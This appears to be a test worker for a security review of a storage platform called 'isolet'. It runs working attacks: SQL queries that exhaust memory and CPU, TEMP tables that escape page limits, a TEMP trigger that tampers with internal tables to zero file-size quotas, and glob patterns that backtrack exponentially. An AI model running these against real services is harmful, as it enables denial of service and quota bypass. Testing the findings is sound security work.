// The storage attacks of the security review (findings 4 and 5, and the
// suspected TEMP trigger), each answering what the worker saw as JSON.
import { fs } from "isolet:fs";

const attempt = async (f) => {
  try {
    return { ok: await f() };
  } catch (e) {
    return { error: String(e.message), code: e.code };
  }
};

export default {
  async fetch(request, env, ctx) {
    const path = new URL(request.url).pathname;
    const sql = ctx.storage.sql;
    const cols = (n, expr) => Array.from({ length: n }, (_, i) => `${expr} AS c${i}`).join(", ");
    if (path === "/zeroblob") {
      // 4a: 2 MB values in a row, past the result limit within one row.
      return Response.json({
        wide: await attempt(() => sql.exec(`SELECT ${cols(300, "zeroblob(2000000)")}`).toArray().length),
        row: await attempt(() => sql.exec(`SELECT ${cols(100, "zeroblob(2000000)")}`).toArray().length),
        huge: await attempt(() => sql.exec("SELECT length(zeroblob(40000000)) AS n").one().n),
        rows: await attempt(() =>
          sql.exec("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c").toArray().length,
        ),
        after: sql.exec("SELECT 1 AS one").one().one,
      });
    }
    if (path === "/temp") {
      // 4b: TEMP tables (in memory, outside max_page_count).
      return Response.json({
        table: await attempt(() =>
          sql.exec(
            "CREATE TEMP TABLE t AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 1000) SELECT randomblob(1000) AS b FROM c",
          ).rowsWritten,
        ),
        qualified: await attempt(() => sql.exec("CREATE TABLE temp.u (a)").rowsWritten),
        view: await attempt(() => sql.exec("CREATE TEMP VIEW v AS SELECT 1").rowsWritten),
        // A sort bigger than the page cache spills to a file, not memory.
        sorted: await attempt(() =>
          sql.exec(
            "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 20000) SELECT count(*) AS n FROM (SELECT randomblob(500) AS b FROM c ORDER BY b)",
          ).one().n,
        ),
        size: sql.databaseSize,
      });
    }
    if (path === "/trigger") {
      // Suspected: a TEMP trigger on isolet's own table, fired by isolet's
      // statements (allow-all), zeroes the file system's sizes (quota).
      await fs.writeFile("/f", "x".repeat(1000));
      const created = await attempt(() =>
        sql.exec(
          "CREATE TEMP TRIGGER zap AFTER INSERT ON _isolet_kv BEGIN UPDATE _isolet_fs SET size = 0; INSERT INTO _isolet_kv VALUES ('planted', '1'); END",
        ).rowsWritten,
      );
      const put = await attempt(() => ctx.storage.put("k", 1));
      const planted = await ctx.storage.get("planted");
      return Response.json({ created, put, planted: planted ?? null, size: (await fs.stat("/f")).size });
    }
    if (path === "/forever") {
      return Response.json(
        await attempt(() =>
          sql.exec("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 1000000000) SELECT count(*) AS n FROM c").one().n,
        ),
      );
    }
    if (path === "/glob") {
      // 5: a pattern that backtracks exponentially, against a long name.
      await fs.writeFile("/" + "a".repeat(59) + "c", "x");
      const started = Date.now();
      const matched = await attempt(() => fs.glob("/" + "*a".repeat(14) + "*b"));
      const braces = await attempt(() => fs.glob("{a,b}".repeat(20)));
      const long = await attempt(() => fs.glob("*".repeat(5000)));
      const ok = await attempt(() => fs.glob("/*a*c"));
      return Response.json({ matched, braces, long, ok, ms: Date.now() - started });
    }
    if (path === "/write") {
      sql.exec("CREATE TABLE IF NOT EXISTS t (a)");
      sql.exec("INSERT INTO t VALUES (1)");
      return new Response("ok");
    }
    return new Response("?", { status: 404 });
  },
};
